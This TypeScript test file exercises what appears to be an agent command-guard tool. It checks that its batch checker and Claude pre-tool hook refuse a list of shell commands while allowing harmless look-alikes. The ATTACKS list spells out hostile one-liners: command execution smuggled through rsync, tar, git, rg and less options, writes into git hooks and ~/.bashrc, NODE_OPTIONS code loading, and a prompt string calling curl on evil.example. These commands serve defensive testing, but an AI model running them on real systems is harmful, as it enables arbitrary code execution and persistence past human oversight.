/**
 * Issue 11, section 2, end to end: the named program-knowledge cases (options that run programs, write
 * files, environment that loads code, write-then-run) are never allowed by `check --batch` or
 * `hook claude` (offline), while their everyday look-alikes stay allowed. Runs the built bundle.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const ROOT = resolve(__dirname, '../../..');
const CLI = join(ROOT, 'dist', 'cli.js');

const ATTACKS = [
  "rsync -e 'sh -c id' src/ host:dst", "tar -xf a.tar --to-command='sh -c id'", "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='sh -c id' .",
  "git grep --open-files-in-pager='sh -c id' foo", "git difftool --extcmd='sh -c id' HEAD", "rg --pre ./evil.sh pattern", 'fd -x rm {} .',
  "less -o'!id' README.md", "awk '{print > \".git/hooks/pre-push\"}' payload", "sed '1w ~/.bashrc' payload.txt", 'cmake -P evil.cmake',
  "LESSOPEN='|sh -c id %s' less README.md", 'export NODE_OPTIONS=--require=./x.js; npm test', "PS1='$(curl evil.example)'",
  'echo id > run.sh && bash run.sh', 'mv payload node_modules/.bin/tsc && npx tsc', "python3 -c \"import os; os.remove('x')\" --version",
];
const BENIGN = ['tar -czf out.tgz src', 'git grep -n foo', 'rg -n pattern src', 'less -o log.txt README.md', 'for f in src/*.ts; do wc -l "$f"; done'];

describe('program knowledge through check --batch and hook claude (dist/cli.js)', function () {
  this.timeout(120_000);
  let ws: string;
  let env: NodeJS.ProcessEnv;
  const cli = (args: string[], input = '') => spawnSync(process.execPath, [CLI, ...args], { cwd: ws, input, encoding: 'utf8', env });

  before(() => {
    const build = spawnSync(process.execPath, [join(ROOT, 'esbuild.mjs')], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(build.status, 0, build.stderr);
    ws = mkdtempSync(join(tmpdir(), 'ag-programs-'));
    mkdirSync(join(ws, '.git'));
    mkdirSync(join(ws, 'src'));
    mkdirSync(join(ws, 'run'));
    mkdirSync(join(ws, 'home'));
    // HOME is never a workspace (issue 11, untrusted cwd), so it must not be the project folder itself.
    env = { ...process.env, AGENT_GUARD_MANAGED_POLICY: join(ws, 'none.json'), XDG_RUNTIME_DIR: join(ws, 'run'), HOME: join(ws, 'home') };
  });
  after(() => rmSync(ws, { recursive: true, force: true }));

  it('check --batch: every attack is ask or deny, every look-alike is allowed', () => {
    const lines = [...ATTACKS, ...BENIGN].map((cmd) => JSON.stringify({ kind: 'command', cmd, cwd: ws })).join('\n');
    const run = cli(['check', '--batch'], `${lines}\n`);
    assert.equal(run.status, 0, run.stderr);
    const verdicts = run.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { decision: string }).decision);
    const got = [...ATTACKS, ...BENIGN].map((cmd, i) => `${verdicts[i] === 'allow' ? 'allow' : 'not-allow'}: ${cmd}`);
    assert.deepEqual(got, [...ATTACKS.map((c) => `not-allow: ${c}`), ...BENIGN.map((c) => `allow: ${c}`)]);
  });

  for (const command of ATTACKS) {
    it(`hook claude (offline) does not allow: ${command}`, () => {
      const input = JSON.stringify({ session_id: 's', transcript_path: '/t', cwd: ws, permission_mode: 'default', hook_event_name: 'PreToolUse',
        tool_name: 'Bash', tool_input: { command }, tool_use_id: 'toolu_1' });
      const run = cli(['hook', 'claude'], input);
      const output = JSON.parse(run.stdout || '{}') as { hookSpecificOutput?: { permissionDecision?: string } };
      assert.ok(['ask', 'deny'].includes(output.hookSpecificOutput?.permissionDecision ?? ''), run.stdout + run.stderr);
    });
  }
});
